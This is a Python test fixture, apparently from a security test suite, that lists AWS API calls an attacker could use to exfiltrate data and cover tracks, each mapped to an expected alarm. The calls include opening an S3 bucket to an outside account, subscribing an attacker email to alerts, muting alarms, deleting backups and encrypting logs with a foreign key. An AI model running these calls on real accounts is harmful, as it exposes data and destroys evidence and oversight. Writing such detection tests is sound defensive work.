"""Actions that an attacker can do because CloudFormation needs the calls, and the alarms about them."""

import json
from collections.abc import Mapping
from typing import Any

from tests.support.embedded.attacker import ACCOUNT, DOCUMENT, OUTSIDER, REGION

OUTSIDERS_ACCOUNT = "111122223333"
ALERTS = f"arn:aws:sns:{REGION}:{ACCOUNT}:nestjs-hannibal-3-alerts"
OPEN_BUCKET = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{OUTSIDERS_ACCOUNT}:root"},
                "Action": "s3:GetObject",
                "Resource": f"arn:aws:s3:::nestjs-hannibal-3-frontend-{ACCOUNT}/*",
            }
        ],
    }
)

# Calls that IAM cannot refuse, because CloudFormation needs them and no condition key has their content: service,
# operation, arguments, and the alarm for it.
_NARROW = f"arn:aws:iam::{ACCOUNT}:policy/HannibalECSBoundary"
# Its stack does not exist between two months.
_STAYING = "nestjs-hannibal-3-restore-point"
_FRONTEND = f"nestjs-hannibal-3-frontend-{ACCOUNT}"
_LOGS = f"nestjs-hannibal-3-alb-logs-{ACCOUNT}"
_IMAGES = "nestjs-hannibal-3"
_EVERY_IMAGE = {
    "rules": [
        {
            "rulePriority": 1,
            "selection": {"tagStatus": "any", "countType": "sinceImagePushed", "countUnit": "days", "countNumber": 1},
            "action": {"type": "expire"},
        }
    ]
}
_ANOTHERS_KEY = {
    "SSEAlgorithm": "aws:kms",
    "KMSMasterKeyID": f"arn:aws:kms:{REGION}:{OUTSIDERS_ACCOUNT}:key/11111111-2222-3333-4444-555555555555",
}
TRACES: list[tuple[str, str, Mapping[str, Any], str]] = [
    (
        "iam",
        "create_role",
        {"RoleName": _STAYING, "AssumeRolePolicyDocument": OUTSIDER, "PermissionsBoundary": _NARROW},
        "Exposure",
    ),
    ("iam", "update_assume_role_policy", {"RoleName": _STAYING, "PolicyDocument": OUTSIDER}, "Exposure"),
    ("iam", "put_role_policy", {"RoleName": _STAYING, "PolicyName": "x", "PolicyDocument": DOCUMENT}, "IamChange"),
    ("s3", "put_bucket_policy", {"Bucket": _FRONTEND, "Policy": OPEN_BUCKET}, "EvidenceChange"),
    (
        "s3",
        "put_public_access_block",
        {"Bucket": _FRONTEND, "PublicAccessBlockConfiguration": {"BlockPublicPolicy": False}},
        "EvidenceChange",
    ),
    (
        "sns",
        "subscribe",
        {"TopicArn": ALERTS, "Protocol": "email", "Endpoint": "attacker@example.com"},
        "EvidenceChange",
    ),
    # Without versions, request logs that he deletes are lost.
    (
        "s3",
        "put_bucket_versioning",
        {"Bucket": _LOGS, "VersioningConfiguration": {"Status": "Suspended"}},
        "EvidenceChange",
    ),
    (
        "s3",
        "put_bucket_lifecycle_configuration",
        {
            "Bucket": _LOGS,
            "LifecycleConfiguration": {
                "Rules": [
                    {"ID": "x", "Status": "Enabled", "Filter": {}, "NoncurrentVersionExpiration": {"NoncurrentDays": 1}}
                ]
            },
        },
        "EvidenceChange",
    ),
    (
        "sns",
        "set_topic_attributes",
        {"TopicArn": ALERTS, "AttributeName": "DisplayName", "AttributeValue": "x"},
        "Exposure",
    ),
    # All subscriptions remain, and receive nothing.
    (
        "sns",
        "set_subscription_attributes",
        {
            "SubscriptionArn": f"{ALERTS}:11111111-2222-3333-4444-555555555555",
            "AttributeName": "FilterPolicy",
            "AttributeValue": '{"nothing": ["has this"]}',
        },
        "EvidenceChange",
    ),
    # No budget notification is sent.
    (
        "budgets",
        "delete_budget",
        {"AccountId": ACCOUNT, "BudgetName": "nestjs-hannibal-3-monthly-x"},
        "EvidenceChange",
    ),
    # All images are deleted a day later, or the same tags get other images.
    (
        "ecr",
        "put_lifecycle_policy",
        {"repositoryName": _IMAGES, "lifecyclePolicyText": json.dumps(_EVERY_IMAGE)},
        "EvidenceChange",
    ),
    (
        "ecr",
        "put_image_tag_mutability",
        {"repositoryName": _IMAGES, "imageTagMutability": "MUTABLE"},
        "EvidenceChange",
    ),
    # Only he can read later logs, or records of access to them.
    (
        "s3",
        "put_bucket_encryption",
        {
            "Bucket": _LOGS,
            "ServerSideEncryptionConfiguration": {"Rules": [{"ApplyServerSideEncryptionByDefault": _ANOTHERS_KEY}]},
        },
        "EvidenceChange",
    ),
    ("s3", "put_bucket_logging", {"Bucket": _FRONTEND, "BucketLoggingStatus": {}}, "EvidenceChange"),
    # The automated backups are deleted at once.
    (
        "rds",
        "modify_db_instance",
        {"DBInstanceIdentifier": "nestjs-hannibal-3-db", "BackupRetentionPeriod": 0},
        "EvidenceChange",
    ),
]
